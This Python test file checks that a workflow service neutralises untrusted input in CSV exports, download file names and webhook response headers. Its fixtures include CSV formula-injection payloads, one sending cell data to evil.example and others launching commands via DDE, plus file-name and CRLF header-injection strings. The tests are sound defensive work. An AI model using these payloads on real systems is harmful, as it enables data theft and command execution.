"""Class 10: what others wrote does nothing where it is shown: in tables, names of files and answers of webhooks."""

from __future__ import annotations

import csv
import io

import pytest

from tiercel.source.webhooks import FORBIDDEN_HEADERS

ROOT = "/api/v1/main"
YAML = {"content-type": "application/x-yaml"}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?" & A1, "open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
]


def flow(name, description='""', more=""):
    return (
        f"id: {name}\nnamespace: team\ndescription: {description}\n"
        "tasks: [{id: say, type: io.kestra.plugin.core.log.Log, message: hi}]\n"
        f"triggers: [{{id: call, type: io.kestra.plugin.core.trigger.Webhook, key: k3y{more}}}]\n"
    )


async def test_no_cell_of_a_table_is_a_formula(client, save):
    for number, text in enumerate(FORMULAS):
        await save(flow(f"f{number}", "'" + text.replace("'", "''").replace("\t", "") + "'"))
    await save(flow("plain", "-12.5"))
    answer = await client.get(f"{ROOT}/flows/export/by-query/csv")
    rows = {row["id"]: row["description"] for row in csv.DictReader(io.StringIO(answer.text))}
    assert rows["plain"] == "-12.5"  # a number
    assert len(rows) == len(FORMULAS) + 1
    for number, text in enumerate(FORMULAS):
        assert rows[f"f{number}"] == "'" + text.strip()


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("a;b.txt", 'attachment; filename="a;b.txt"'),
        (
            'a"; filename="b.exe',
            "attachment; filename=\"a_; filename=_b.exe\"; filename*=UTF-8''a%22%3B%20filename%3D%22b.exe",
        ),
        ("größe.csv", "attachment; filename=\"gr__e.csv\"; filename*=UTF-8''gr%C3%B6%C3%9Fe.csv"),
        ("x\u202etxt.exe", "attachment; filename=\"x_txt.exe\"; filename*=UTF-8''x%E2%80%AEtxt.exe"),
    ],
)
async def test_the_name_of_a_file_says_nothing_else(client, name, shown):
    path = f"{ROOT}/namespaces/team/files"
    (await client.post(path, params={"path": f"/{name}"}, files={"fileContent": ("x", b"hi")})).raise_for_status()
    answer = await client.get(path, params={"path": f"/{name}"})
    assert (answer.content, answer.headers["content-disposition"]) == (b"hi", shown)


async def test_webhooks_answer_nothing_for_the_whole_address(client):
    for name in sorted(FORBIDDEN_HEADERS):
        source = flow("hook", more=f", response: {{headers: {{{name}: x}}}}")
        answer = await client.post(f"{ROOT}/flows", content=source, headers=YAML)
        assert (answer.status_code, answer.json()["errors"][0]["code"]) == (422, "forbidden-header"), name
    wrong = flow("hook", more=', response: {contentType: "text/html\\r\\nX-Evil: 1"}')
    answer = await client.post(f"{ROOT}/flows", content=wrong, headers=YAML)
    assert (answer.status_code, answer.json()["errors"][0]["path"]) == (422, "triggers[0].response.contentType")


async def test_answers_of_webhooks_are_one_line_and_one_charset(client, save):
    headers = 'X-A: "a\\r\\nX-Evil: {{ trigger.parameters.a[0] }}"'
    for given, sent in (("", "text/plain"), (", contentType: text/html; charset=latin-1", "text/html")):
        await save(flow("hook", more=f", response: {{headers: {{{headers}}}, body: hi{given}}}"), dialect="auto")
        answer = await client.post(f"{ROOT}/executions/webhook/team/hook/k3y?a=b%0d%0aX-Worse:1")
        assert answer.headers["x-a"] == "a X-Evil: b X-Worse:1"
        assert not {"x-evil", "x-worse"} & set(answer.headers)
        assert answer.headers["content-type"] == f"{sent}; charset=utf-8"
        await client.delete(f"{ROOT}/flows/team/hook")
